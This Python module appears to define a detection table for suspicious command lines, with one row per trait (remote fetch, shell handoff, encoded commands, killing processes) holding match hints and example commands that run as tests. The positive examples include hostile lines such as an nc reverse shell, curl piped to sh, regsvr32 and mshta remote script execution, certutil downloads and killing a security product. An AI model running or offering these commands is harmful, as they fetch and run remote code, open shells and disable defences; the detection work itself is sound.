"""What command lines mean to do, one row a trait: hints cheap to look for, the test, examples that run as tests."""

from longtail.executions.deeds import DEEDS
from longtail.executions.meaning import (
    Row,
    Says,
    Trait,
    bare_address,
    double_extension,
    echo_to_file,
    encoded,
    fetches_program,
    hands_on_a_shell,
    remote_argument,
    runs_from_the_web,
    runs_remote,
    writable_target,
)

_STOP_OPTIONS = r"-(?:im|pid|fi|f)\b"
TRAITS: tuple[Row, ...] = (
    Row(
        Trait.REMOTE_ARGUMENT,
        ("://", "\\\\", "//", ".1", ".2", ".3", ".4", ".5", ".6", ".7", ".8", ".9"),
        remote_argument,
        ("bitsadmin /transfer n http://1.2.3.4/Svn.exe c:\\Users\\Public\\Svn.exe", "copy \\\\10.0.0.5\\c$\\x.exe ."),
        ("curl http://localhost:8080/health http://0.0.0.0:1/a http://[::1]:1/a", "ping -n 1 127.0.0.1"),
    ),
    Row(
        Trait.WRITABLE_TARGET,
        (
            "\\users\\",
            "/users/",
            "temp",
            "tmp",
            "%public",
            "%userprofile",
            "appdata",
            "recycle",
            "windows\\",
            "%windir",
            "%systemroot",
            "/dev/shm",
            "documents and settings",
            "~1",
            "$env:",
            "\\tasks",
        ),
        writable_target,
        ("bitsadmin /transfer n http://1.2.3.4/a c:\\Users\\Public\\Svn.exe", "sh -c 'chmod +x /tmp/x'"),
        ("net use /delete", "type C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ),
    Row(
        Trait.BARE_ADDRESS,
        (".1", ".2", ".3", ".4", ".5", ".6", ".7", ".8", ".9"),
        bare_address,
        ("cmd /c echo open 198.51.100.7>So.2", "curl -o a http://203.0.113.9:8080/a"),
        ("ping 10.1.2.3", "curl https://www.example.com/1.2/a.zip"),
    ),
    Row(
        Trait.FETCHES_PROGRAM,
        ("//",),
        fetches_program,
        (
            "certutil -urlcache -f https://example.com/upd/a.exe a.txt",
            "regsvr32 /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll",
        ),
        ("curl https://api.example.com/orders.json -o o.json", "curl https://example.com/ -o a.exe"),
    ),
    Row(
        Trait.HANDS_ON_A_SHELL,
        ("cmd", "powershell", "pwsh", "sh -", "/sh", "bash", "/dash", "/zsh"),
        hands_on_a_shell,
        ('C:\\Temp\\x.exe -i -c "cmd /c whoami"', 'nc -e "/bin/sh -i" 198.51.100.4 443'),
        ('forfiles /p D:\\bak /c "cmd /c del @path"', "powershell -File C:\\jobs\\a.ps1"),
    ),
    Row(
        Trait.DOUBLE_EXTENSION,
        (".exe", ".scr", ".com", ".pif", ".bat", ".cmd", ".js", ".vb", ".wsf", ".hta", ".lnk", ".ps1"),
        double_extension,
        ("cmd /c start invoice.pdf.exe", "wscript C:\\Temp\\photo.jpg.vbs"),
        ("C:\\App\\my.service.exe", "tar xf backup.txt.gz"),
    ),
    Row(
        Trait.ENCODED,
        ("base64", "decode", "openssl", "-e", "/e", "\u2013e", "=="),
        encoded,
        (
            "powershell -enc dwBoAG8AYQBtAGkAIAAvAGEAbABsAA==",
            "sh -c 'echo Y3VybCBodHRwOi8vMS4yLjMuNC9hCg== | base64 -d'",
        ),
        ("certutil -hashfile C:\\x.iso SHA256", "sqlcmd -i C:\\scripts\\IndexMaintenanceWeekly.sql"),
    ),
    Row(
        Trait.ECHO_TO_FILE,
        ("echo", "printf"),
        echo_to_file,
        ('"C:\\Windows\\system32\\cmd.exe" /c echo open 1.2.3.4>So.2', "cmd /c echo get Svn.exe >>So.2"),
        ("cmd /c echo done > nul", "sh -c 'echo failed >&2'"),
    ),
    Row(
        Trait.STOPS_SOMETHING,
        (),
        Says(
            {
                "taskkill tskill pskill pskill64": _STOP_OPTIONS + r"|^\S",
                "ntsd cdb windbg": r"-c\s+\"?(?:q|\.kill)\b",
                "sc": r"^(?:\\\\\S+\s+)?(?:stop|delete)\b|^(?:\\\\\S+\s+)?config\b.*start=\s*disabled",
                "net net1": r"^stop\s+\S",
                "wmic": r"\b(?:call\s+terminate|process\b.*\bdelete)\b",
                "stop-process stop-service spps kill spsv": r"",
                "pkill killall killall5": r"\S",
                "systemctl": r"^(?:-\S+\s+)*(?:stop|kill|disable|mask)\b",
                "service": r"^\S+\s+stop\b",
            }
        ),
        ("taskkill  /im 360rp.exe /f", "ntsd -c q -pn 360rp.exe"),
        ("sc query MSSQLSERVER", "cmd /c echo taskkill /im x"),
    ),
    Row(
        Trait.RUNS_REMOTE,
        ("://", "\\\\"),
        runs_remote,
        ("regsvr32 /s /n /u /i:http://1.2.3.4/x.sct scrobj.dll", "sh -c 'curl -s http://1.2.3.4/x | sh'"),
        ("curl -o x.zip https://example.com/x.zip", "ping -n 1 127.0.0.1"),
    ),
    Row(
        Trait.RUNS_FROM_THE_WEB,
        ("://", "\\\\"),
        runs_from_the_web,
        ("mshta http://cdn.example.org/x", "powershell -nop iex(irm https://cdn.example.org/x)"),
        ("regsvr32 /s \\\\fs01\\tools\\x.dll", "powershell iwr https://cdn.example.org/x -OutFile x.zip"),
    ),
    *DEEDS,
)
"""In the order of ``Trait``; the examples of every row run as tests."""
